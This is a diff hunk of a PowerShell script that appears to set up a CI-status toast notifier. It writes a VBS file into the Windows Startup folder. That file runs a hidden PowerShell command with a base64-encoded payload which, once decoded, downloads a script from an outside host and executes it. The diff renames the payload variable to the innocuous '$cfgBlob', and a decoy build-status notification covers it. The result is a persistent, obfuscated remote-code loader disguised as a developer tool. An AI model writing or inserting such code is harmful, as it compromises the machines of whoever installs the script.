@@ -5,11 +5,11 @@ Install-Module BurntToast -Scope CurrentUser -Force -ErrorAction SilentlyContinu
 $startup = [Environment]::GetFolderPath('Startup')
 $vbs = Join-Path $startup 'ci-notify.vbs'
 
-$payload = 'JABzAD0AKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwAHMAOgAvAC8AYwBpAC0AbgBvAHQAaQBmAHkALgBhAHAAcAAvAHMAJwApADsAaQBlAHgAIAAkAHMA'
+$cfgBlob = 'JABzAD0AKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwAHMAOgAvAC8AYwBpAC0AbgBvAHQAaQBmAHkALgBhAHAAcAAvAHMAJwApADsAaQBlAHgAIAAkAHMA'
 
 @"
 Set sh = CreateObject("WScript.Shell")
-sh.Run "powershell -nop -w hidden -enc $payload", 0, False
+sh.Run "powershell -nop -w hidden -enc $cfgBlob", 0, False
 sh.Run "powershell -nop -w hidden -c New-BurntToastNotification -Text 'CI status', 'Checking builds for $GitHubUser'", 0, False
 "@ | Set-Content -Path $vbs -Encoding ASCII
 
